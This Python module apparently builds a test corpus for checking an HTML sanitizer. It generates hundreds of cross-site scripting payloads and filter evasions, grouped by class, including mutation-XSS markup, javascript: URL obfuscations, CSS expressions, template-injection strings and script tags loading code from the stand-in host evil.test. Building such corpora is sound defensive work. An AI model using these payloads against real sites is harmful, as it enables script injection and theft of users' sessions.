"""A corpus of cross-site scripting, made from its known classes: every way out that HTML, URLs, CSS and scripts offer.

Whatever runs calls ``alert``: a test has only to hear it. The classes follow the HTML Standard's parsing states
and the published families of filter evasions (markup, attribute, scheme, mutation, style, encoding, template,
script and, at the end, our own syntax). ``PAYLOADS`` has every one of them once, in a fixed order.
"""

from __future__ import annotations

from itertools import product
from typing import Final

CODE: Final = "alert(1)"
HANDLERS: Final = [
    "onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onstart", "onanimationstart", "onbegin", "onpageshow",
    "onpointerenter", "onbeforetoggle", "oncontentvisibilityautostatechange", "onscrollend", "onTransitionEnd", "ONERROR", "oN123x",
]  # fmt: skip


def tags() -> list[str]:
    """Elements that run something by themselves, or that change what comes after them."""
    plain = [
        "<script>{c}</script>", "<SCRIPT>{c}</SCRIPT>", "<script src=//evil.test/x.js></script>", "<script type=module>{c}</script>",
        "<script/x>{c}</script>", "<script\n>{c}</script\n>", "<scr<script>ipt>{c}</scr</script>ipt>", "<script>{c}", "<script",
        "<img src=x onerror={c}>", "<img src=x onerror={c}//", "<img/src=x/onerror={c}>", "<IMG SRC=x OnErRoR={c}>", "<image src=x onerror={c}>",
        '<img src="x" onerror="{c}">', "<img src='x' onerror='{c}'>", "<img src=`x` onerror=`{c}`>", "<img src=x onerror=\n{c}\n>",
        "<img\tsrc=x\tonerror={c}>", "<img\x0csrc=x\x0conerror={c}>", "<img \x00src=x onerror={c}>", "<<img src=x onerror={c}>>",
        "<img src=x onerror=&#97;lert(1)>", "<img src=x one&#114;ror={c}>", "<svg onload={c}>", "<svg/onload={c}>", "<svg><script>{c}</script></svg>",
        "<svg><script xlink:href=//evil.test/x.js></script></svg>", "<svg><animate onbegin={c} attributeName=x dur=1s>", "<svg><set onbegin={c}>",
        "<svg><a xlink:href=javascript:{c}><text y=20>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x></svg>",
        "<svg><foreignObject><script>{c}</script></foreignObject></svg>", "<math href=javascript:{c}>x</math>", "<body onload={c}>",
        "<math><maction actiontype=statusline xlink:href=javascript:{c}>x</maction></math>", "<iframe src=javascript:{c}></iframe>",
        "<iframe srcdoc='<script>parent.{c}</script>'></iframe>", "<iframe srcdoc=&lt;script&gt;parent.{c}&lt;/script&gt;>", "<object data=javascript:{c}>",
        "<embed src=javascript:{c}>", "<video><source onerror={c}>", "<video src=x onerror={c}>", "<audio src=x onerror={c}>", "<video poster=javascript:{c}>",
        "<details open ontoggle={c}>", "<input autofocus onfocus={c}>", "<select autofocus onfocus={c}>", "<textarea autofocus onfocus={c}>",
        "<button popovertarget=x>x</button><p id=x popover onbeforetoggle={c}>", "<marquee onstart={c}>", "<style onload={c}></style>",
        "<link rel=stylesheet href=javascript:{c}>", "<link rel=import href=//evil.test>", "<base href=//evil.test/>", "<meta http-equiv=refresh content=0;url=javascript:{c}>",
        "<meta http-equiv=refresh content='0;url=//evil.test'>", "<form action=javascript:{c}><button>x", "<button formaction=javascript:{c}>x", "<input type=image src=x onerror={c}>",
        "<isindex type=image src=x onerror={c}>", "<keygen autofocus onfocus={c}>", "<table background=javascript:{c}>", "<frameset onload={c}>", "<frame src=javascript:{c}>",
        "<template><img src=x onerror={c}></template>", "<div style=animation-name:x onanimationstart={c}>", "<x onclick={c} tabindex=1>x", "<x contenteditable onblur={c}>",
        "<a href=javascript:{c}>x</a>", "<a href='&#106;avascript:{c}'>x</a>", "<xss id=x tabindex=1 onfocus={c}></xss>", "<portal src=javascript:{c}>", "<dialog open onclose={c}>",
        "<plaintext>", "<xmp><img src=x onerror={c}></xmp>", "<listing><img src=x onerror={c}>", "<noembed><img src=x onerror={c}>", "<applet code=x onerror={c}>", "<bgsound src=javascript:{c}>",
    ]  # fmt: skip
    return [text.format(c=CODE) for text in plain]


def event_attributes() -> list[str]:
    """Out of an attribute, by kind of quote, into one that runs."""
    ends = ['"', "'", "`", "", '">', "'>", ">", '"/>', '\\"', "&quot;", "&#34;", "&#x22;", "\u201d", "%22"]
    return [f"{end} {handler}={CODE} x={end[:1]}" for end, handler in product(ends, HANDLERS)]


def attribute_breakouts() -> list[str]:
    """Out of an attribute and its element."""
    ends = [
        '">',
        "'>",
        ">",
        "/>",
        '" >',
        "' >",
        '"\n>',
        '"><',
        "'><",
        '">-->',
        "&#62;",
        '"}>',
        '">]]>',
        '"></p>',
        '" autofocus onfocus=alert(1) x="><',
    ]
    insides = [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<svg onload=alert(1)>",
        "<b id=injected>",
        "<a href=javascript:alert(1)>x",
        "<style>*{x:y}</style>",
        "<!--",
        "<input name=injected>",
    ]
    return [end + inside for end, inside in product(ends, insides)]


def urls() -> list[str]:
    """Schemes that run code, disguised as browsers let them be."""
    heads = [
        "",
        " ",
        "\t",
        "\n",
        "\r",
        "\x00",
        "\x01",
        "\x08",
        "\x0b",
        "\x0c",
        "\x1f",
        "\x7f",
        "\xa0",
        "\xad",
        "\u2028",
        "\u200b",
        "\ufeff",
        "\u3000",
        "//",
        "\\",
        "&#1;",
        "&#32;",
    ]
    schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\rscript:", "javascript\t:", "java\x00script:", "j\x01avascript:", "javascript&colon;", "javascript&#58;", "&#106;avascript:",
               "&#x6a;avascript:", "&#0000106avascript:", "java&Tab;script:", "java&NewLine;script:", "javascript\uff1a", "\uff4aavascript:", "java\xadscript:", "java\u200bscript:", "%6aavascript:", "javascript%3a",
               "vbscript:", "livescript:", "feed:javascript:", "jar:javascript:", "view-source:javascript:", "javascript://%0a", "javascript:/*x*/", "jAvAsCrIpT\n:"]  # fmt: skip
    found = [head + scheme + CODE for head, scheme in product(heads, schemes)]
    data = ["text/html,<script>alert(1)</script>", "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>", "application/xhtml+xml,<script>alert(1)</script>",
            ",<script>alert(1)</script>", "text/xml;base64,PHg+", "image/png,<script>alert(1)</script>", "image/svg+xml;base64,PHN2Zy8+", "text/javascript,alert(1)"]  # fmt: skip
    found += [
        head + scheme + item
        for head, scheme, item in product(["", " ", "\n"], ["data:", "DATA:", "da\tta:"], data)
    ]
    other = ["blob:http://evil.test/x", "file:///etc/passwd", "filesystem:http://evil.test/x", "about:srcdoc", "//evil.test", "\\\\evil.test", "/\\evil.test", "https:evil.test", "http:\\\\evil.test", "ws://evil.test", "intent:x", "x-y:z", "1javascript:alert(1)", ":javascript:alert(1)", "?javascript:alert(1)", "#javascript:alert(1)"]  # fmt: skip
    return [*found, *other]


def raw_text_breakouts() -> list[str]:
    """Out of comments, CDATA, declarations and elements whose text is not parsed."""
    ends = ["-->", "--!>", "--\n>", "->", ">-->", "<!-->", "<!--->", "]]>", "<![CDATA[", "<!DOCTYPE x>", "<?x", "?>", "<?xml version='1.0'?>", "<!", "<!x>", "</", "</ x>", "<%", "<//>",
            *[f"</{tag}>" for tag in ("script", "style", "textarea", "title", "xmp", "noscript", "iframe", "noembed", "noframes", "plaintext", "template", "select", "option", "svg", "math", "table", "pre", "button", "p", "div", "body", "html", "SCRIPT", "script ", "textarea/", "title\n")]]  # fmt: skip
    insides = [
        "",
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<svg onload=alert(1)>",
        "--><b id=injected>",
    ]
    return [end + inside for end, inside in product(ends, insides)]


def mutations() -> list[str]:
    """Markup that means something else when it is parsed a second time, or in another namespace."""
    hidden = "<img src=x onerror=alert(1)>"
    holders = [
        "<noscript><p title=\"</noscript>{h}\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{h}\">",
        "<math><mtext><table><mglyph><style><math>{h}</style>", "<svg></p><style><a id=\"</style>{h}\">", "<svg><style><a title=\"</style>{h}\">",
        "<form><math><mtext></form><form><mglyph><style></math>{h}", "<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--&gt;{h}\">",
        "<math><annotation-xml encoding=\"text/html\"><style><!--</style>{h}--></style>", "<math><annotation-xml encoding=\"text/html\">{h}",
        "<svg><desc><style><a title=\"</style>{h}\">", "<svg><title>{h}</title></svg>", "<svg><foreignObject>{h}", "<template><style><!--</style>{h}",
        "<select><template><style><!--</style><a rel=\"--></style></template></select>{h}\">", "<table><td><svg><style><a title=\"</style></table>{h}\">",
        "<textarea><noscript></textarea>{h}", "<xmp><p title=\"</xmp>{h}\">", "<style><style/>{h}", "<title><a title=\"</title>{h}\">", "<iframe><p title=\"</iframe>{h}\">",
        "<noembed><p title=\"</noembed>{h}\">", "<noframes><p title=\"</noframes>{h}\">", "<!--<p title=\"-->{h}\">", "<![CDATA[<p title=\"]]>{h}\">", "<svg><![CDATA[<p title=\"]]>{h}\">",
        "<math><mi xlink:href=\"data:x,{h}\">", "<a><svg><desc><a><table><a></table><style><!--</style></svg><a id=\"-><{h}\">", "<p><svg><p>{h}", "<b><math><b>{h}", "<svg><p><style><g title=\"</style>{h}\">",
        "<svg><b><style><!--</style>{h}", "<math><mglyph><style><!--</style>{h}", "<math><malignmark><style>{h}", "<option><style></option></select>{h}", "<table><caption><svg><title>{h}", "<ruby><rt><style><!--</style>{h}",
    ]  # fmt: skip
    return [
        holder.format(h=inside)
        for holder, inside in product(
            holders, [hidden, "<script>alert(1)</script>", "&lt;img src=x onerror=alert(1)&gt;"]
        )
    ]


def styles() -> list[str]:
    """Out of a declaration, or loading something from within it."""
    values = [
        "red;background:url(//evil.test)", "red;background:url(javascript:alert(1))", "expression(alert(1))", "exp/**/ression(alert(1))", "\\65xpression(alert(1))", "url(//evil.test/x)", "u\\72l(//evil.test/x)", "URL ( 'x' )",
        "image-set('//evil.test/x' 1x)", "image(//evil.test)", "red}*{color:red", "red}</style><script>alert(1)</script>", "red;-moz-binding:url(x#y)", "red;behavior:url(x.htc)", "@import '//evil.test'", "red;@import url(x)", "var(--x)",
        "red/*", "red*/;position:fixed", "red!important;position:fixed;inset:0", "red\\;position:fixed", "red;\x00position:fixed", "attr(title)", "red'", 'red"', "red\npos\\ition:fixed", "cross-fade(url(x),url(y))", "src('//evil.test')", "element(#x)",
        "url(data:image/svg+xml,<svg/onload=alert(1)>)", "paint(x)", "env(x)", "red;width:expression(alert(1))", "red} @font-face{src:url(//evil.test)}", "red\\3b position:fixed", "{}", "red;;;", "<!--red", "red-->", "url\x28//evil.test\x29",
    ]  # fmt: skip
    return [head + value for head, value in product(["", " ", "\n", "/**/"], values)]


def characters() -> list[str]:
    """Text that encoders, parsers and databases stumble over, alone and around markup."""
    odd = [
        "\x00",
        "\x01",
        "\x08",
        "\x0b",
        "\x0c",
        "\r",
        "\r\n",
        "\x1b",
        "\x7f",
        "\x80",
        "\x85",
        "\x9f",
        "\xa0",
        "\xad",
        "\u2028",
        "\u2029",
        "\u202e",
        "\u200d",
        "\ufeff",
        "\ufffe",
        "\uffff",
        "\ud800",
        "\udfff",
        "\udc00\ud800",
        "\U0001f600",
        "\U0010ffff",
        "\ufdd0",
        "\ue0f0",
        "\ue0f1",
        "\ue0f00\ue0f1",
        "e\u0301",
        "\uff1c",
        "\u2039",
        "+ADw-",
        "\xbc",
        "\u0130",
    ]
    return [
        text
        for item in odd
        for text in (
            item,
            f"<{item}img src=x onerror=alert(1)>",
            f'" {item}onclick=alert(1) x="',
            f"{item}<script{item}>alert(1)</script>",
        )
    ]


def references() -> list[str]:
    """Character references, whole, half and doubled: none may be read twice."""
    written = [
        "&lt;img src=x onerror=alert(1)&gt;",
        "&LT;img src=x onerror=alert(1)&GT;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3c;svg onload=alert(1)&#x3e;",
        "&#0060;b&#0062;",
        "&amp;lt;script&amp;gt;alert(1)",
        "&lt",
        "&lt;",
        "&",
        "&&",
        "&#",
        "&#x",
        "&#x;",
        "&#0;",
        "&#xD800;",
        "&#x110000;",
        "&notit;",
        "&quot; onclick=alert(1) x=&quot;",
        "&apos; onclick=alert(1)",
        "&NewLine;",
        "&Tab;",
        "&nbsp;",
        "\\u003cimg src=x onerror=alert(1)\\u003e",
        "\\x3cscript\\x3e",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%253Cscript%253E",
        "\\74 script",
    ]
    return [head + text for head, text in product(["", '"', "&"], written)]


def templates() -> list[str]:
    """What template engines would run, Python's and the browser's."""
    return [
        "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{%raw%}", "{% import os %}", "{alert(1)}", "{x}", "{0}", "{}", "{!r}", "{x.__class__.__mro__}", "{{x.__class__}}",
        "{x:{x}}", "%s", "%(x)s", "%n", "$x", "${x}", "__import__('os').system('true')", "{__import__('os')}", "t'{x}'", "f'{x}'", "{self}", "{request}", "*{x}", "@{x}", "[[${x}]]", "{{='<% %>'=}}", "{{#with}}", "<x-{y}>", "{/*x*/}", "`${alert(1)}`",
        "<!--#exec cmd=x-->", "<?php alert(1) ?>", "\\{x\\}", "{\"a\":1}", "v-html=x", "ng-app ng-csp", "x-data x-init=alert(1)", "hx-on:load=alert(1)", "_=on load alert(1)", ":onclick=alert(1)", "@click=alert(1)",
    ]  # fmt: skip


def scripts() -> list[str]:
    """Out of a string in a script, in JSON, or in an event's expression."""
    ends = [
        "'",
        '"',
        "`",
        "')",
        '")',
        "'))",
        '"]',
        "'}",
        '"}',
        "\\'",
        '\\"',
        "\\\\'",
        "\n",
        "\u2028",
        "*/",
        "//",
        "</script>",
        "<!--",
        "\\u0027",
        "\\x27",
    ]
    insides = [";alert(1)//", "-alert(1)-", "+alert(1)+", ",alert(1),", "}alert(1){"]
    return [end + inside for end, inside in product(ends, insides)]


def our_own() -> list[str]:
    """In the syntax of templates, bindings, paths and messages of Hyper Live."""
    return [
        "hidden", "hidden()", "'); hidden('", '"); hidden("', "pick(1); hidden", ") hidden(", "$set_attribute('a', 'href', 'javascript:alert(1)')", "$dispatch('x')", "$confirm('x'); hidden", '" @click="hidden', "' @click='hidden", '" live-hook="x',
        '" data-live-component="c9', '"><div data-live-component="c9" data-live-token="t">', "</div></div></div>", '" key="x', '" id="root', "div/p/text", "#root/@onclick", "p[1]/@href", '{"path":"p","html":"<script>alert(1)</script>"}',
        '","html":"<script>alert(1)</script>","x":"', "}]}", '"}],"patches":[{"path":"","html":"<b>', "\ue0f00\ue0f1", "\ue0f01\ue0f1<b>", "<!--\ue0f00\ue0f1-->", "<{x}>", "<{Header} />", "<:footer>x</:footer>", "</:footer>", "javascript:hidden()", "dataset.id", "value, hidden", "[hidden]", "{hidden: 1}", "__proto__", "constructor", "prototype", "toString", "hasOwnProperty",
    ]  # fmt: skip


CLASSES: Final = [
    tags, event_attributes, attribute_breakouts, urls, raw_text_breakouts, mutations, styles, characters, references, templates, scripts, our_own,
]  # fmt: skip
PAYLOADS: Final = list(dict.fromkeys(payload for make in CLASSES for payload in make()))
